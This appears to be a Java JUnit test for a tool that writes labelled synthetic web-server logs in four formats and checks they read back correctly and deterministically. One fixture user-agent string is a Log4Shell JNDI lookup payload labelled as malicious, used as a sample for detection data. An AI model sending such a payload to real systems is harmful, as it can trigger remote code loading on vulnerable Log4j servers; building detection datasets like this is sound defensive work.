package dev.minga.simulations.demo.data;

import static org.assertj.core.api.Assertions.assertThat;

import dev.minga.node.data.Example;
import dev.minga.node.data.LabelledLog;
import dev.minga.node.data.LogFormat;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

class OrganisationFilesTest {
    private static final List<AgentString> STRINGS = List.of(
            new AgentString("curl/8.5", false, AgentString.BENIGN),
            new AgentString("${jndi:ldap://h/a}", true, "log4shell"),
            new AgentString("Mozilla/5.0 (X11)", false, AgentString.BENIGN));

    @TempDir
    Path folder;

    @ParameterizedTest
    @EnumSource(names = {"NGINX_COMBINED", "JSON_GATEWAY", "IIS_W3C", "PLAIN"})
    void aNodeReadsBackWhatWasWritten(LogFormat format) throws IOException {
        OrganisationFiles files = OrganisationFiles.write(folder.resolve("new/folder"), format, STRINGS, 4);
        LabelledLog read = LabelledLog.read(files.log(), files.format(), files.labels(), OrganisationFiles.LABEL_NAMES);
        assertThat(read.examples()).extracting(Example::label).containsExactly(0, 1, 0);
        assertThat(read.examples())
                .zipSatisfy(
                        STRINGS, (example, string) -> assertThat(example.text()).endsWith(string.value()));
        assertThat(read.unlabelled()).isZero();
        assertThat(read.unparsed()).isZero();
    }

    @ParameterizedTest
    @EnumSource(names = {"NGINX_COMBINED", "JSON_GATEWAY", "IIS_W3C", "PLAIN"})
    void theSameSeedWritesTheSameBytes(LogFormat format) throws IOException {
        OrganisationFiles one = OrganisationFiles.write(folder.resolve("one"), format, STRINGS, 4);
        OrganisationFiles two = OrganisationFiles.write(folder.resolve("two"), format, STRINGS, 4);
        assertThat(two.log()).hasSameBinaryContentAs(one.log());
        assertThat(Files.readString(two.labels())).isEqualTo(Files.readString(one.labels()));
    }
}
